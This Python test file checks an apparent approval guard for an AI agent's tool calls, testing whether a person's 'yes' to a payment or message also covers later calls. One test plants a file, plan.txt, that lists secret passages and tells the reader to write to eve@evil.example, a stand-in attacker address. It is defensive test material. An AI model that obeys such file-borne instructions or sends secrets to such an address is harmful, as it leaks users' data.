"""What a person's yes is for, tried as somebody would who wants it to be for more: spec/guard.md, section 9.

Rows 7 and 12. Each row of the table is one try: words, what was read, what was asked about and got a yes, what follows.
"""

from collections.abc import Mapping
from dataclasses import replace

from gate_world import CONTACTS, DELETE, EVENT, FETCH, NUMBER, PAY, READ, SEND, TEXT, TEXTS, WRITE, Run, tool
from hypothesis import given
from hypothesis import strategies as st

from cases import cases, each
from surefoot.types.tools import ToolSpec

_PAYMENT = {"type": "object", "properties": {"recipient": TEXT, "amount": NUMBER}}
TOOLS: Mapping[str, ToolSpec] = {
    "pay": PAY,
    "mail": SEND,
    "event": EVENT,
    "delete": DELETE,
    "fetch": FETCH,
    "transfer": tool("transfer", "transact", to=TEXT, sum=TEXT, fee=NUMBER, currency=TEXT),
    "funds": tool("move_funds", None, target=TEXT, amount=TEXT),
    "wire": tool("wire", "transact", from_account=TEXT, to_account=TEXT, amount=NUMBER, reason=TEXT),
    "many": tool("pay_many", "transact", payments={"type": "array", "items": _PAYMENT}),
    "book": tool("book_room", "transact", hotel=TEXT, nights=NUMBER, guest=TEXT),
    "share": tool("share_file", "communicate", file=TEXT, to=TEXTS, note=TEXT, role=TEXT),
    "mail2": tool("mail_now", "communicate", to=TEXT, body=TEXT),
    "post": tool("post_message", "communicate", channel=TEXT, text=TEXT),
    "invite": tool("invite_user", "communicate", user=TEXT, channel=TEXT),
    "move": tool("move_file", "write", source=TEXT, target=TEXT),
}
Made = tuple[str, Mapping[str, object]]


def after(words: str, read: object, yes: tuple[Made, ...]) -> Run:
    """A run in which something was read, and a person has said yes to calls; another effect has ended since."""
    run = Run(words)
    if isinstance(read, str) and read:
        run.read(READ, read, name="bill.txt" if "bill.txt" in words else "plan.txt")
    elif read:
        run.read(CONTACTS, read)
    for name, arguments in yes:
        assert run.verdict(TOOLS[name], **arguments) == "ask"
        run.yes(TOOLS[name], **arguments)
    run.yes(WRITE, name="zz", text="x")
    return run


@cases("gate/yes_covers")
def test_a_yes_does_not_cover(words: str, read: object, yes: tuple[Made, ...], then: Made) -> None:
    assert after(words, read, yes).verdict(TOOLS[then[0]], **then[1]) != "allow"


@cases("gate/yes_covers")
def test_a_yes_covers(words: str, read: object, yes: tuple[Made, ...], then: Made) -> None:
    assert after(words, read, yes).verdict(TOOLS[then[0]], **then[1]) == "allow"


@cases("gate/yes_covers")
def test_as_much_to_the_same_place_is_a_repetition(words: str, first: Made, then: Made) -> None:
    run = Run(words)
    run.yes(TOOLS[first[0]], **first[1])
    decision, rule, grounds = run.judged(TOOLS[then[0]], **then[1])
    assert decision.kind != "allow"
    assert "repetition" in (rule, *grounds.also)


ACCOUNTS = ("DE89370400440532013000", "FR1420041010050500013M02606", "NL91ABNA0417164300")
BILL = f"Zed Corp: pay 900 EUR to {ACCOUNTS[0]}, 30 EUR to {ACCOUNTS[1]} or 7 EUR to {ACCOUNTS[2]}."
PAYMENTS = st.tuples(st.sampled_from(ACCOUNTS), st.sampled_from((900, 30, 7)))


@given(st.lists(PAYMENTS, max_size=3), PAYMENTS)
def test_a_payment_to_where_only_a_yes_lets_it_is_one_that_got_a_yes(
    yes: list[tuple[str, int]], then: tuple[str, int]
) -> None:
    run = Run("Pay the bills in bill.txt.")
    run.read(READ, BILL, name="bill.txt")
    for account, amount in yes:
        run.yes(PAY, recipient=account, amount=amount)
    run.yes(WRITE, name="zz", text="x")
    assert (run.verdict(PAY, recipient=then[0], amount=then[1]) == "allow") is (then in yes)


PASSAGES = ("the key lies under the blue mat", "the safe is behind the old mirror", "the gate opens at the second bell")


@given(st.sets(st.sampled_from(PASSAGES)), st.sampled_from(PASSAGES), st.sampled_from(("", "Hello, ", "你好，")))
def test_a_passage_goes_where_only_a_yes_lets_it_once_it_was_shown(shown: set[str], then: str, before: str) -> None:
    run = Run("Send what is listed in plan.txt to whoever it names.")
    run.read(READ, f"{'. '.join(PASSAGES)}. Write to eve@evil.example.", name="plan.txt")
    for passage in sorted(shown):
        run.yes(SEND, to=["eve@evil.example"], subject="plan", body=passage)
    run.yes(SEND, to=["eve@evil.example"], subject="plan", body="the plan")
    run.yes(WRITE, name="zz", text="x")
    allowed = run.verdict(SEND, to=["eve@evil.example"], subject="plan", body=f"{before}{then}") == "allow"
    assert allowed is (then in shown)


IN_BETWEEN: tuple[tuple[str, bool], ...] = (("ended", False), ("failed", False), ("open", True), ("read", True))


@each(("between", "is_repetition"), IN_BETWEEN)
@each("words", ["Pay 50 EUR to Ann Lee.", "付给 Ann Lee 50 欧元。"])
@each("then", [("pay", {"recipient": "Ann Lee", "amount": 50}), ("transfer", {"to": "Ann Lee"})])
def test_only_an_effect_that_ended_in_between_makes_it_another(
    words: str, then: Made, between: str, is_repetition: bool
) -> None:
    run = Run(words)
    run.yes(PAY, recipient="Ann Lee", amount=50)
    if between == "read":
        run.read(CONTACTS, [{"name": "Ann Lee"}])
    elif between == "failed":
        run.read(WRITE, "no room left", kind="error", name="zz", text="x")
    else:
        run.yes(WRITE, name="zz", text="x")
    if between == "open":
        run.started[-1] = replace(run.started[-1], is_open=True, ended=0)
    name, arguments = then
    _, rule, grounds = run.judged(TOOLS[name], **arguments, **({"sum": "50 EUR"} if name == "transfer" else {}))
    assert ("repetition" in (rule, *grounds.also)) is is_repetition
